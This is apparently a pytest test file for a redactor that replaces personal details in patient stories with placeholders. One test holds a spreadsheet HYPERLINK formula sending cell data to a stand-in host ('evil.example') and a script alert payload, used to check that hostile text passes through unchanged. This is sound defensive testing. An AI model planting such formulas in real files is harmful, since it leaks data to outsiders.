from __future__ import annotations

import time

import pytest

from storymine.privacy import PLACEHOLDER_KINDS, RedactedDocument, RedactionConfig, Redactor
from storymine.privacy.ner import ModelUnavailableError

STORY = [
    "What Mrs Doreen Hartley taught me",
    "Mrs Doreen Hartley (NHS 943 476 5919, DOB 12/03/1947) lives at 14 Fernbank Road, LS6 2QT.",
    "Doreen rang 07700 900123; her son Gary emailed gary.hartley@example.com. Later Mrs Hartley slept.",
    "Gary rang again from 07700-900-123 and Dr Patel called back on 0113 496 0471.",
]


def test_placeholders_consistent_within_document(rules: Redactor) -> None:
    doc = rules.redact_document(STORY)
    assert doc.texts[0] == "What Mrs [PERSON_1] taught me"
    assert doc.texts[1] == (
        "Mrs [PERSON_1] (NHS [NHS_NUMBER_1], DOB [DATE_OF_BIRTH_1]) lives at [ADDRESS_1], [POSTCODE_1]."
    )
    assert doc.texts[2] == (
        "[PERSON_1] rang [PHONE_1]; her son [PERSON_2] emailed [EMAIL_1]. Later Mrs [PERSON_1] slept."
    )
    assert doc.texts[3] == "[PERSON_2] rang again from [PHONE_1] and Dr [PERSON_3] called back on [PHONE_2]."
    assert dict(doc.counts) == {
        "ADDRESS": 1, "DATE_OF_BIRTH": 1, "EMAIL": 1, "NHS_NUMBER": 1, "PERSON": 7, "PHONE": 3, "POSTCODE": 1,
    }  # fmt: skip
    assert doc.n_distinct["PERSON"] == 3
    assert doc.n_redactions == 15


def test_numbering_restarts_per_document(rules: Redactor) -> None:
    a = rules.redact_document(["Dr Patel and Dr Khan"])
    b = rules.redact_document(["Dr Khan"])
    assert a.texts == ("Dr [PERSON_1] and Dr [PERSON_2]",)
    assert b.texts == ("Dr [PERSON_1]",)


def test_no_original_values_kept(rules: Redactor) -> None:
    doc = rules.redact_document(STORY, known_names=["Doreen Hartley"])
    dumped = repr(doc) + repr(doc.__dict__)
    for value in [
        "Doreen",
        "Hartley",
        "Gary",
        "Patel",
        "943 476 5919",
        "07700",
        "Fernbank",
        "LS6 2QT",
        "example.com",
    ]:
        assert value not in dumped
    assert isinstance(doc, RedactedDocument)
    with pytest.raises(TypeError):
        doc.counts["PERSON"] = 0  # type: ignore[index]


def test_output_aligned_with_input(rules: Redactor) -> None:
    texts = ["", "no personal data here", "Dr Patel", ""]
    doc = rules.redact_document(texts)
    assert doc.texts == ("", "no personal data here", "Dr [PERSON_1]", "")


def test_rejects_a_bare_string(rules: Redactor) -> None:
    with pytest.raises(TypeError):
        rules.redact_document("Dr Patel")


def test_known_names_and_their_parts(rules: Redactor) -> None:
    doc = rules.redact_document(
        ["Bernadette wrote this. QUIGLEY agreed; bernadette quigley signed. Quigleys Bakery is nearby."],
        known_names=["Bernadette  Quigley"],
    )
    assert doc.texts == ("[PERSON_1] wrote this. [PERSON_1] agreed; [PERSON_1] signed. Quigleys Bakery is nearby.",)


def test_extra_names_from_config() -> None:
    r = Redactor(RedactionConfig(ner="off", extra_names=("Zanele Mokoena",)))
    assert r.redact("Zanele covered the shift.") == "[PERSON_1] covered the shift."


def test_allow_terms_are_never_redacted() -> None:
    r = Redactor(RedactionConfig(ner="off", allow_terms=("Florence",)))
    assert r.redact("The Florence app helped.", known_names=["Florence Nightingale"]) == "The Florence app helped."


def test_kinds_can_be_switched_off() -> None:
    r = Redactor(RedactionConfig(ner="off", kinds=("EMAIL",)))
    assert r.redact("Dr Patel a@example.com 07700 900123") == "Dr Patel [EMAIL_1] 07700 900123"
    with pytest.raises(ValueError, match="unknown placeholder kinds"):
        Redactor(RedactionConfig(kinds=("SECRET",)))


def test_org_urls_kept_personal_urls_redacted(rules: Redactor) -> None:
    text = "See https://www.nice.org.uk/guidance/ng51 and https://www.facebook.com/doreen.hartley now."
    assert rules.redact(text) == "See https://www.nice.org.uk/guidance/ng51 and [URL_1] now."
    assert Redactor(RedactionConfig(ner="off", redact_all_urls=True)).redact(text) == "See [URL_1] and [URL_2] now."


def test_url_with_a_known_name_is_redacted(rules: Redactor) -> None:
    text = "Notes at https://example.org/team/doreen-hartley-notes.pdf"
    assert rules.redact(text, known_names=["Doreen Hartley"]) == "Notes at [URL_1]"


def test_email_wins_over_name_inside_it(rules: Redactor) -> None:
    doc = rules.redact_document(["Doreen wrote from doreen.hartley@example.com"], ["Doreen Hartley"])
    assert doc.texts == ("[PERSON_1] wrote from [EMAIL_1]",)


def test_invalid_nhs_number_not_redacted(rules: Redactor) -> None:
    assert rules.redact("ref 943 476 5918") == "ref 943 476 5918"


def test_hidden_identifiers_found_after_normalising(rules: Redactor) -> None:
    text = "mail doreen\u200b.hartley@exam\u200dple.com or 07\u200b700 900\u2060123; NHS 943\u00a0476\u00a05919 \u202eX"
    assert rules.redact(text) == "mail [EMAIL_1] or [PHONE_1]; NHS [NHS_NUMBER_1] X"


def test_hostile_text_left_as_text(rules: Redactor) -> None:
    text = '=HYPERLINK("http://evil.example/?q="&A1,"click") <script>alert(1)</script>\x07'
    assert rules.redact(text) == '=HYPERLINK("http://evil.example/?q="&A1,"click") <script>alert(1)</script>'


def test_idempotent_on_redacted_text(model_redactor: Redactor) -> None:
    once = model_redactor.redact_document(STORY)
    twice = model_redactor.redact_document(list(once.texts))
    assert twice.texts == once.texts
    assert twice.n_redactions == 0


def test_model_required_but_missing() -> None:
    r = Redactor(RedactionConfig(ner="spacy", spacy_model="no_such_model_xyz"))
    with pytest.raises(ModelUnavailableError, match="ner='off'"):
        r.redact("Dr Patel")


def test_missing_model_fails_closed_by_default() -> None:
    # "auto" used to fall back to rules only; now any setting but an explicit "off" needs the model.
    for ner in ("auto", "spacy"):
        r = Redactor(RedactionConfig(ner=ner, spacy_model="no_such_model_xyz"))  # type: ignore[arg-type]
        with pytest.raises(ModelUnavailableError):
            r.redact("Dr Patel rang 07700 900123")
    off = Redactor(RedactionConfig(ner="off", spacy_model="no_such_model_xyz"))
    assert off.redact("Dr Patel rang 07700 900123") == "Dr [PERSON_1] rang [PHONE_1]"
    assert not off.uses_model


def test_settings_auto_means_required() -> None:
    from storymine.config import PrivacySettings

    assert PrivacySettings().ner == "spacy"
    assert PrivacySettings(ner="auto").ner == "spacy"  # type: ignore[arg-type]


def test_model_redactor_uses_model(model_redactor: Redactor) -> None:
    assert model_redactor.uses_model
    assert set(PLACEHOLDER_KINDS) == set(model_redactor.config.kinds)


def test_ner_budget_note() -> None:
    r = Redactor(RedactionConfig(ner="spacy", ner_char_budget=50))
    doc = r.redact_document(["Bartholomew Quince came in. " * 3, "Then Fatima Begum arrived and Gary Lineker too."])
    assert any(n.startswith("ner_budget_exceeded") for n in doc.notes)


@pytest.mark.slow
def test_a_long_line_takes_time_in_proportion_to_its_length(model_redactor: Redactor) -> None:
    """A hostile one-line file costs time in proportion to its length, never more (no regex blow-up).

    Compared as a ratio on one machine, not against a clock: a 4 MB line may take at most 8 times what a
    1 MB line takes (in proportion would be 4; a quadratic rule would be 16). The whole pipeline on a 10 MB
    line is run by tests/test_hostile.py; speed is measured by ``python -m benchmarks.privacy_bench``.
    """
    base = (
        "The nurse checked NEWS2 and escalated at 3am; her son Gary rang 07700 900123 "
        "about Mrs Doreen Hartley. "
        "NHS 943 476 5919, x@example.com, LS1 4AP, "
    )
    filler = "a" * 1000 + " " + "1" * 1000 + " " + "b.c-" * 250 + " "
    unit = base + filler
    model_redactor.redact_document([unit])  # lists and the model loaded before timing

    def timed(size: int) -> tuple[float, str]:
        text = (unit * (size // len(unit) + 1))[:size]
        t0 = time.perf_counter()
        doc = model_redactor.redact_document([text])
        return time.perf_counter() - t0, doc.texts[0]

    small, _ = timed(1_000_000)
    large, out = timed(4_000_000)
    assert large < 8 * small + 2, (small, large)
    for value in ["Gary", "Doreen", "Hartley", "07700 900123", "943 476 5919", "x@example.com", "LS1 4AP"]:
        assert value not in out


def test_file_name_with_known_name(rules: Redactor) -> None:
    doc = rules.redact_document(["stories/story_from_margaret-okafor.md"], known_names=["Margaret Okafor"])
    assert doc.texts == ("stories/story_from_[PERSON_1].md",)
    doc = rules.redact_document(["notes_for_doreen_hartley_2024.md"], known_names=["Doreen Hartley"])
    assert doc.texts == ("notes_for_[PERSON_1]_2024.md",)


def test_malformed_csv_text_does_not_break_name_rules(rules: Redactor) -> None:
    text = 'story_id,author,story\n1,"' + "x" * 300_000 + '"\n2,Doreen Hartley,"unterminated\n3,"a""b'
    out = rules.redact(text)
    assert "Doreen" not in out and "Hartley" not in out
